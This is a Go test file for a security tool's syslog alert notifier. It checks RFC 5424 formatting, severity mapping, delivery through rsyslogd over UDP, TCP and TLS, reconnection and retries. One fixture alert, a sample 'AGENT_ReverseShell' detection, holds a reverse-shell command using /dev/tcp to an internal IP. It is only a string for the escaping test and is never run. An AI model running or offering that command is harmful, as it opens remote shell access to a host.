package alert

import (
	"context"
	"encoding/json"
	"maps"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"
)

func TestSyslogMessage(t *testing.T) {
	s := NewSyslog("udp", "127.0.0.1:514", "bulwark", WithHostname("node-7")).(*syslogSender)
	a := sampleAlert()
	want := "<131>1 2026-03-04T05:06:07.89Z node-7 bulwark " + strconv.Itoa(os.Getpid()) + " K8S_PrivilegedContainer " +
		`[alert@32473 type="K8S_PrivilegedContainer" severity="high" status="active" count="3" fingerprint="` + Fingerprint(a) + `"` +
		` tactics="Privilege Escalation,Execution" url="https://bulwark.example/alerts/42"` +
		` remediation="Remove securityContext.privileged from the pod spec."]` +
		`[entities@32473 cluster="prod" container="api" namespace="payments" workload="deployment/api"]` +
		" Privileged container started in payments"
	m := s.message(a, time.Now())
	if got := string(m.appendTo(nil)); got != want {
		t.Errorf("message:\n got %s\nwant %s", got, want)
	}
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	bare := s.message(Alert{Type: "T", Title: "t"}, now)
	if got := string(bare.appendTo(nil)); !strings.HasPrefix(got, "<132>1 2026-01-01T00:00:00Z node-7 bulwark ") ||
		!strings.HasSuffix(got, ` T [alert@32473 type="T" severity="" status="active" count="1" fingerprint="`+Fingerprint(Alert{Type: "T"})+`"] t`) {
		t.Errorf("alert without time, severity or entities: %s", got)
	}
}

func TestSyslogSeverity(t *testing.T) {
	// RFC 5424 section 6.2.1 numbers: 2 crit, 3 err, 4 warning, 5 notice, 6 info.
	tests := map[string]int{"critical": 2, "high": 3, "HIGH": 3, "medium": 4, "low": 5, "informational": 6, "info": 6, "": 4, "bogus": 4}
	for sev, want := range tests {
		if got := syslogSeverity(sev); got != want {
			t.Errorf("syslogSeverity(%q) = %d, want %d", sev, got, want)
		}
	}
}

func TestSyslogUnusable(t *testing.T) {
	tests := []struct {
		n    Notifier
		want string
	}{
		{NewSyslog("unix", "/dev/log", "x"), `syslog network "unix"`},
		{NewSyslog("udp", "127.0.0.1:514", "x", WithFacility(24)), "facility 24"},
		{NewSyslog("tcp", "127.0.0.1:514", "x", WithFacility(-1)), "facility -1"},
	}
	for _, tt := range tests {
		err := tt.n.Notify(context.Background(), sampleAlert())
		if err == nil || !isPermanent(err) || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: Notify = %v, want a permanent error about %s", tt.n.Name(), err, tt.want)
		}
	}
}

// trickyAlert has every character SD-PARAM escaping is about, and a
// non-ASCII title (so MSG goes as UTF-8 with a BOM).
func trickyAlert() Alert {
	a := sampleAlert()
	a.Type = "AGENT_ReverseShell"
	a.Severity = "critical"
	a.Title = `Reverse shell from café "pod" [x] \ ok`
	a.Entities = map[string]string{"process": `sh -c "exec 3<>/dev/tcp/10.0.0.9/4444"`, "path": `C:\tmp\x]`, "user": "rené"}
	a.Remediation = `Kill the pod; see [runbook] "RS-1".`
	a.URL = ""
	return a
}

// TestSyslogThroughRsyslog sends alerts over UDP, TCP and TLS to a real
// rsyslogd and checks that its RFC 5424 parser put every field where it
// belongs, that mmpstrucdata reads the structured data back to the values
// sent, and that the raw message is byte for byte what was formatted.
func TestSyslogThroughRsyslog(t *testing.T) {
	r := startRsyslog(t, true)
	tests := []struct {
		network, input string
		opts           []SyslogOption
		facility       int
	}{
		{"udp", "imudp", nil, 16},
		{"tcp", "imtcp", []SyslogOption{WithFacility(FacilityLocal0 + 3)}, 19},
		{"tcp+tls", "imtcp", []SyslogOption{WithFacility(4)}, 4},
	}
	for _, tt := range tests {
		t.Run(tt.network, func(t *testing.T) {
			app := "bulwark-" + strings.ReplaceAll(tt.network, "+", "-")
			opts := append([]SyslogOption{WithHostname("node-7")}, tt.opts...)
			var n Notifier
			if tt.network == "tcp+tls" {
				n = NewSyslogTLS(r.addr(tt.network), app, r.tlsConfig(), opts...)
			} else {
				n = NewSyslog(tt.network, r.addr(tt.network), app, opts...)
			}
			defer n.(*syslogSender).Close()
			alerts := []Alert{sampleAlert(), trickyAlert()}
			var conns []any
			for _, a := range alerts {
				if err := n.Notify(context.Background(), a); err != nil {
					t.Fatal(err)
				}
				conns = append(conns, n.(*syslogSender).conn)
			}
			if conns[0] != conns[1] {
				t.Error("the connection to a live server was not reused")
			}
			recs := r.await(app, len(alerts))
			for i, a := range alerts {
				checkRsyslogRecord(t, recs[i], n.(*syslogSender), a, tt.input, tt.facility)
			}
		})
	}
}

func checkRsyslogRecord(t *testing.T, rec rsyslogRecord, s *syslogSender, a Alert, input string, facility int) {
	t.Helper()
	m := s.message(a, time.Now())
	wantMsg := a.Title
	if strings.ContainsFunc(a.Title, func(r rune) bool { return r > 127 }) {
		wantMsg = utf8BOM + a.Title
	}
	checks := []struct{ name, got, want string }{
		{"input", rec.Input, input},
		{"protocol-version", rec.Version, "1"}, // 0 would mean rsyslog fell back to RFC 3164
		{"pri", rec.Pri, strconv.Itoa(facility*8 + syslogSeverity(a.Severity))},
		{"syslogfacility", rec.Facility, strconv.Itoa(facility)},
		{"syslogseverity", rec.Severity, strconv.Itoa(syslogSeverity(a.Severity))},
		{"hostname", rec.Hostname, "node-7"},
		{"app-name", rec.AppName, s.appName},
		{"procid", rec.ProcID, strconv.Itoa(os.Getpid())},
		{"msgid", rec.MsgID, a.Type},
		{"structured-data", rec.SD, string(appendSD(nil, m.SD))},
		{"msg", rec.Msg, wantMsg},
		{"rawmsg", rec.Raw, string(m.appendTo(nil))},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s: rsyslog %s = %q, want %q", a.Type, c.name, c.got, c.want)
		}
	}
	if ts, err := time.Parse(time.RFC3339Nano, rec.Timestamp); err != nil || !ts.Equal(a.Time) {
		t.Errorf("%s: rsyslog timestamp %q, want %v", a.Type, rec.Timestamp, a.Time)
	}
	var parsed map[string]map[string]string
	if err := json.Unmarshal([]byte(rec.ParsedSD), &parsed); err != nil {
		t.Fatalf("mmpstrucdata output %q: %v", rec.ParsedSD, err)
	}
	want := map[string]map[string]string{}
	for _, e := range m.SD {
		want[e.ID] = map[string]string{}
		for _, p := range e.Params {
			want[e.ID][p.Name] = p.Value
		}
	}
	if !maps.EqualFunc(parsed, want, maps.Equal) {
		t.Errorf("%s: rsyslog parsed SD %v, want %v", a.Type, parsed, want)
	}
	if want[sdIDEntities]["path"] != "" && want[sdIDEntities]["path"] != `C:\tmp\x]` {
		t.Errorf("entity value changed on the way: %q", want[sdIDEntities]["path"])
	}
}

// TestSyslogReconnect restarts rsyslogd under a TCP sender: the next alert
// must reach the new server, not vanish into the dead connection.
func TestSyslogReconnect(t *testing.T) {
	r := startRsyslog(t, false)
	n := NewSyslog("tcp", r.addr("tcp"), "bulwark-reconnect")
	defer n.(*syslogSender).Close()
	first := sampleAlert()
	if err := n.Notify(context.Background(), first); err != nil {
		t.Fatal(err)
	}
	r.await("bulwark-reconnect", 1)
	r.stop()
	r.start()
	second := trickyAlert()
	if err := n.Notify(context.Background(), second); err != nil {
		t.Fatalf("Notify after the server restarted: %v", err)
	}
	if recs := r.await("bulwark-reconnect", 2); recs[1].MsgID != second.Type {
		t.Errorf("second message %+v", recs[1])
	}
}

// TestSyslogDispatcherWaitsForServer queues an alert while rsyslogd is down:
// the dispatcher retries until the server is back.
func TestSyslogDispatcherWaitsForServer(t *testing.T) {
	r := startRsyslog(t, false)
	r.stop()
	n := NewSyslog("tcp", r.addr("tcp"), "bulwark-wait")
	opts := Options{Attempts: 100, MinBackoff: 50 * time.Millisecond, MaxBackoff: 200 * time.Millisecond}
	d := NewDispatcher([]Notifier{n}, opts)
	if err := d.Send(sampleAlert()); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	r.start()
	r.await("bulwark-wait", 1)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := d.Close(ctx); err != nil {
		t.Fatal(err)
	}
	st := d.Stats()[n.Name()]
	if st.Sent != 1 || st.Retried < 1 || st.Failed != 0 {
		t.Errorf("Stats = %+v, want 1 sent after retries", st)
	}
}
